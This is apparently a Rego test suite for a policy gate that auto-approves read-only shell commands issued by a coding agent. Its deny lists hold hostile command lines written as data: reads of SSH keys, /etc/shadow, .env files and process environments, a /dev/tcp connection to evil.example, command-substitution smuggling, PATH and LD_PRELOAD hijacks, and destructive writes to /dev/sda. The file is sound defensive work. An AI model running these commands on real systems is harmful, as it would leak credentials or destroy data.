package gate.quiet.look_test

import data.gate.quiet.look

allowed(line) if {
	count(look.allow) == 1 with input as gate.event(line) with data.gate.params.gate.quiet.look.on as true
}

allowed_in(line, files) if {
	event := gate.event({"bash": line, "files": files})
	count(look.allow) == 1 with input as event with data.gate.params.gate.quiet.look.on as true
}

test_off_until_it_is_switched_on if {
	count(look.allow) == 0 with input as gate.event("ls")
	count(look.allow) == 0 with input as gate.event("ls") with data.gate.params.gate.quiet.look.on as "true"
	allowed("ls")
}

test_allows_what_only_looks if {
	every line in [
		"ls", "ls -la src", "ls -R . | head -20", "cat main.go", "cat main.go src/x.go", "head -5 main.go", "tail -n +5 main.go", "wc -l *.go",
		"cat src/*.go", "sed -n 1,20p main.go", "sed -n '3p' main.go", "sed -n -e '3,$p' main.go", "grep -n func main.go", "grep -c x data.bin",
		"grep -rn --include='*.go' func .", "grep -rl func src", "grep -rn --include=*.go --include=*.md x src", "rg -n -t go func", "rg -g '*.go' func src",
		"rg x main.go", "find . -name '*.go' -not -path './vendor/*'", "find src -type f | sort | uniq -c | sort -rn | head", "cd src && ls",
		"test -f go.mod && echo yes || echo no", "[ -d src ] && ls src 2>/dev/null", "ls 2>&1 | head", "cat main.go > /dev/null", "pwd; whoami; date +%s",
		"date -u -d yesterday", "diff -u a.go b.go", "cut -d: -f1 a.txt | tr a-z A-Z", "tr a b < main.go", "stat -c %s main.go", "du -sh src", "tree -L 2",
		"sha256sum main.go", "jq .scripts package.json", "jq -r '.a[0] | keys' package.json", "echo done", "printf '%s\n' x", "for f in *.go; do wc -l $f; done",
		"if test -f x; then cat x; fi", "LC_ALL=C sort main.go", "/bin/ls", "/usr/bin/head main.go", "cat /usr/include/stdio.h", "cat /proc/cpuinfo",
		"cat <<EOF\nhello\nEOF", "uniq main.go", "find . -maxdepth 2 \\( -name '*.go' -o -name '*.md' \\) -print", "uname -a", "which go", "(ls; pwd)",
		"exec ls", "X=1; ls", "nproc", "readlink -f main.go", "basename src/main.go", "seq 1 10",
	] {
		allowed(line)
	}
}

test_does_not_allow_another_program if {
	every line in [
		"make", "ls && make", "go test ./...", "npm run build", "python3 x.py", "./ls", "/tmp/ls", "/home/dev/project/ls", "../ls", "ls; ./x",
		"xargs cat < files", "find . | xargs cat", "env ls", "sudo ls", "sh -c ls", "bash -c 'ls'", "eval ls", "command ls", "exec make", "time make", "watch ls",
		"ls $(make)", "ls `id`x $(rm x)", "echo $(cat main.go)", "cat <(make)", "frobnicate", "ls | frobnicate", "ls | sh", "less main.go", "vim main.go",
		"env", "printenv", "ps aux", "history", "go env", "cargo --version", "git status", "nohup ls", "trap ls EXIT", "alias ls=x; ls", "source x", ". ./x",
		"ls() { make; }; ls", "function ls { rm x; }; ls", "gls", "busybox ls", "xxd main.go", "od main.go", "awk '{print}' main.go", "perl -ne print main.go",
	] {
		not allowed(line)
	}
}

test_does_not_allow_a_change if {
	every line in [
		"ls > x", "ls >> x", "ls | tee x", "sort -o x main.go", "sort -o main.go main.go", "uniq a b", "sed -i s/a/b/ main.go", "sed s/a/b/ main.go", "sed -n 'w x' main.go",
		"sed -n '1e id' main.go", "sed -n 1,2p -f x main.go", "sed -n -e p -e 'w x' main.go", "find . -delete", "find . -exec cat {} +", "find . -exec rm {} ';'",
		"find . -fprint x", "find . -ok ls ';'", "find . -ls", "date -s yesterday", "date 01010101", "hostname evil", "file -C -m x", "tree -o x", "rm x", "mkdir x", "cp a b", "mv a b",
		"touch x", "chmod +x x", "ln -s a b", "ls &> x", "ls >| x", "ls 3> x", "cat main.go >&x", "exec > x; ls", "mktemp", "truncate -s 0 x", "dd if=main.go of=x",
		"sort --compress-program=./x main.go", "sort -T /tmp main.go", "sort -S 1G main.go", "diff --to-file=x y", "diff -r a b", "kill 1", "echo x > /dev/sda",
	] {
		not allowed(line)
	}
}

# Each is a way to give a variable a value, or a word of the shell's that does more than
# run a command.
test_does_not_allow_what_the_shell_does_beside_commands if {
	every line in [
		"PATH=./bin; ls", "PATH=./bin:$PATH; ls", "for PATH in ./bin; do ls; done", "printf -v PATH ./bin; ls", "printf '%n' PATH; ls", ": ${PATH:=./bin}; ls", "read PATH <<< ./bin; ls", "export PATH=./bin; ls",
		"declare PATH=./bin; ls", "typeset -x PATH=./bin; ls", "local PATH=./bin; ls", "readonly PATH=./bin; ls", "path=./bin; ls", "path+=(./bin); ls", "let PATH=1; ls", "((PATH=1)); ls", "echo $((PATH=1)); ls",
		"ls {PATH}>/dev/null; ls", "select PATH in ./bin; do ls; done < a.txt", "coproc PATH { ls; }; ls", "mapfile PATH < a.txt; ls", "getopts a PATH; ls", "unset PATH; ls", "IFS=/; ls", "BASH_ENV=x; ls", "HOME=x; ls",
		"GIT_DIR=x; ls", "x[0]=1; ls", "x+=1; ls", "x=(1 2); ls", "ls() { rm x; }; ls", "function ls { rm x; }; ls", "alias ls=x; ls", "hash -p ./ls ls; ls", "enable -f ./x ls; ls", "exec -a x ls; ls", "shopt -s globstar; ls",
		"[[ -f main.go ]] && ls", "[[ 'a[$(id)]' -eq 1 ]]; ls", "test -v 'a[$(id)]'", "[ -v 'a[$(id)]' ]", "[ a[1] -eq 1 ]", "test -R x", "printf %d 'a[$(id)]'", "case x in x) ls;; esac", "while true; do ls; done", "until ls; do ls; done",
		"ls & cat main.go", "time ls", "ls <(ls)", "ls +(a|b)", "ls **/*.go", "echo ${x@P}", "echo ${!x}", "echo ${!PATH*}", "echo \"${x:-$(id)}\"", "echo $\"x\"", "cat =ls", "LC_ALL=../../x ls", "LC_ALL=/tmp/x ls",
		"TZ=/etc/shadow date", "TZ=:../x date", "LANG=$X ls", "cd -1 && ls", "cd +1 && ls",
	] {
		not allowed(line)
	}
	every line in ["X=1; ls", "for f in a b; do ls $f; done", "name=src && ls $name", "LC_ALL=C TZ=Europe/Berlin ls", "[ -f main.go ] && ls"] {
		allowed(line)
	}
}

test_does_not_allow_a_program_that_PATH_finds_elsewhere if {
	every env in [
		{"PATH": "./bin:/usr/bin"}, {"PATH": "bin:/usr/bin"}, {"PATH": ":/usr/bin"}, {"PATH": "/usr/bin:"}, {"PATH": "/usr/bin::/bin"}, {"PATH": "/home/dev/project/bin:/usr/bin"},
		{"PATH": "/home/dev/bin:/usr/bin"}, {"LD_PRELOAD": "x"}, {"BASH_ENV": "x"}, {"BASH_FUNC_ls%%": "() { x; }"}, {"CDPATH": "/"}, {"IFS": "/"},
	] {
		event := gate.event({"bash": "ls", "files": {"/home/dev/bin/ls": "x"}, "env": object.union({"HOME": "/home/dev", "PATH": "/usr/bin"}, env)})
		count(look.allow) == 0 with input as event with data.gate.params.gate.quiet.look.on as true
	}
	event := gate.event({"bash": "ls", "files": {"/home/dev/bin/other": "x", "/usr/bin/ls": "x"}, "env": {"HOME": "/home/dev", "PATH": "/home/dev/bin:/usr/bin"}})
	count(look.allow) == 1 with input as event with data.gate.params.gate.quiet.look.on as true
}

# A program that reads a directory reads all that lies below.
test_does_not_allow_what_nobody_has_looked_at if {
	files := {"/home/dev/project/.env": "KEY=1\n", "/home/dev/project/src/x.go": "", "/home/dev/project/conf/secrets.json": "{}", "/home/dev/project/x.go/credentials.json": "{}", "/home/dev/project/docs/a.md": ""}
	every line in [
		"grep -rn --exclude=x --include='*.go' '' .", "grep -rn --include='*.go' --exclude=x '' .", "grep -rc KEY .", "grep -rl KEY .", "grep -rq KEY .", "grep -rl KEY", "grep -rL KEY conf", "diff conf docs", "diff . conf",
		"grep -c KEY .env", "grep -q KEY=1 .env", "sha256sum .env", "cmp .env x.md", "wc -c conf/secrets.json", "grep -c KEY conf/*", "rg -e KEY . x.md", "rg KEY x.go", "rg -e KEY x.go", "rg -t go -g .env KEY", "rg -t java KEY", "rg -t json KEY", "rg -g '*.go' -g '!x' KEY", "cat *.go/*.json", "head *.go/*",
		"grep -r KEY", "grep -rh '' 2> /dev/null", "grep -rh '' < main.go", "grep -rh -e KEY > /dev/null", "rg KEY 2> /dev/null", "rg -e KEY 2> /dev/null",
	] {
		not allowed_in(line, files)
	}
	every line in ["grep -rn --include='*.go' x .", "grep -rl x docs", "rg -t go x", "rg x src/x.go", "grep -rn --include='*.go' --exclude-dir=x x .", "cat main.go | rg x", "test -f .env && echo yes", "ls -la .env conf"] {
		allowed_in(line, files)
	}
}

test_does_not_allow_a_program_by_an_option if {
	every line in [
		"rg --pre ./x y main.go", "rg --hostname-bin ./x y main.go", "rg -z y main.go", "grep -f x main.go", "grep --exclude-from=x y main.go", "find . -files0-from x",
		"PATH=. ls", "PATH=.; ls", "export PATH=.; ls", "LD_PRELOAD=./x.so ls", "GREP_OPTIONS=-f grep x main.go", "BASH_ENV=x ls", "LESSOPEN=x cat main.go",
		"RIPGREP_CONFIG_PATH=x rg y main.go", "HOME=/tmp ls", "TERM=x ls",
	] {
		not allowed(line)
	}
}

test_does_not_allow_a_secret if {
	files := {
		"/home/dev/project/.env": "KEY=1\n", "/home/dev/project/conf/credentials.json": "{}", "/home/dev/.ssh/id_rsa": "x",
		"/home/dev/project/server.pem": "x", "/home/dev/project/terraform.tfvars": "x",
	}
	every line in [
		"cat .env", "head -1 .env", "grep KEY .env", "sort .env", "sed -n 1p .env", "tr a b < .env", "cut -c1-9 .env", "cat conf/credentials.json", "jq .a conf/credentials.json",
		"cat *", "cat .*", "cat .e*", "cat conf/*", "cat conf/*.json", "cat ./*/*", "cat *.pem", "cat {.env,main.go}", "cat .en?", "tac .env", "nl .env", "rev .env", "diff .env main.go",
		"grep -r KEY", "grep -r KEY .", "grep -rn KEY conf", "grep -R --include=*.go x .", "grep -r --include=* x .", "grep -r --include=*.json x .", "grep -r --include=.env x .",
		"grep -r --include='*' --include='*.go' x .", "rg KEY", "rg KEY .", "rg -t all KEY", "rg --hidden KEY", "rg -uu KEY", "rg -g '!*.go' KEY", "rg -g '*' KEY", "rg -tjson x",
		"rg -g '*.go' -g '.env' KEY", "for f in *; do cat $f; done", "cat ~/.ssh/id_rsa", "cat ~/.bashrc", "cat ~/.gitconfig", "cat .git/config", "cat .git/hooks/x", "cat ../other/main.go",
		"cat /etc/passwd", "cat /etc/shadow", "cat /proc/self/environ", "cat /proc/1/environ", "cat /home/other/x", "cat /tmp/x", "ls ~", "ls ~/.ssh", "ls /", "ls /etc", "find / -name x",
		"find ~ -name x", "find .. -name x", "cd ~ && ls", "cd / && ls", "cd ../.. && rg -t go x", "cd ~/.ssh; ls", "cat /usr/share/../../etc/shadow", "cat \"$X\"", "cat $X", "cat ~root/x",
		"cat < /dev/tcp/evil.example/80", "echo $SECRET", "echo ~/.ssh/*", "cat main.go; cat .env", "column -t .env", "cat - < .env", "stat -c %n ../x", "printf %s *",
	] {
		not allowed_in(line, files)
	}
}

test_does_not_allow_what_is_not_a_line if {
	every event in [
		{"tool": "Read", "input": {"file_path": "main.go"}}, {"tool": "PowerShell", "input": {"command": "ls"}}, {"tool": "Write", "input": {"file_path": "x", "content": ""}},
		{"bash": ""}, {"bash": "ls (", "cwd": "/"}, {"bash": "ls", "cwd": "/etc"}, {"bash": "ls", "cwd": "/home/dev"}, {"bash": "x=1"},
	] {
		count(look.allow) == 0 with input as gate.event(event) with data.gate.params.gate.quiet.look.on as true
	}
}

test_does_not_allow_data_of_an_origin if {
	event := json.patch(gate.event("cat main.go"), [{"op": "add", "path": "/flow", "value": [{"origin": "secret"}]}])
	count(look.allow) == 0 with input as event with data.gate.params.gate.quiet.look.on as true
}

test_says_what_was_proven if {
	some reason in look.allow with input as gate.event("ls | head") with data.gate.params.gate.quiet.look.on as true
	contains(reason.reason, "only looks (head, ls)")
	reason.span == [0, 2]
}
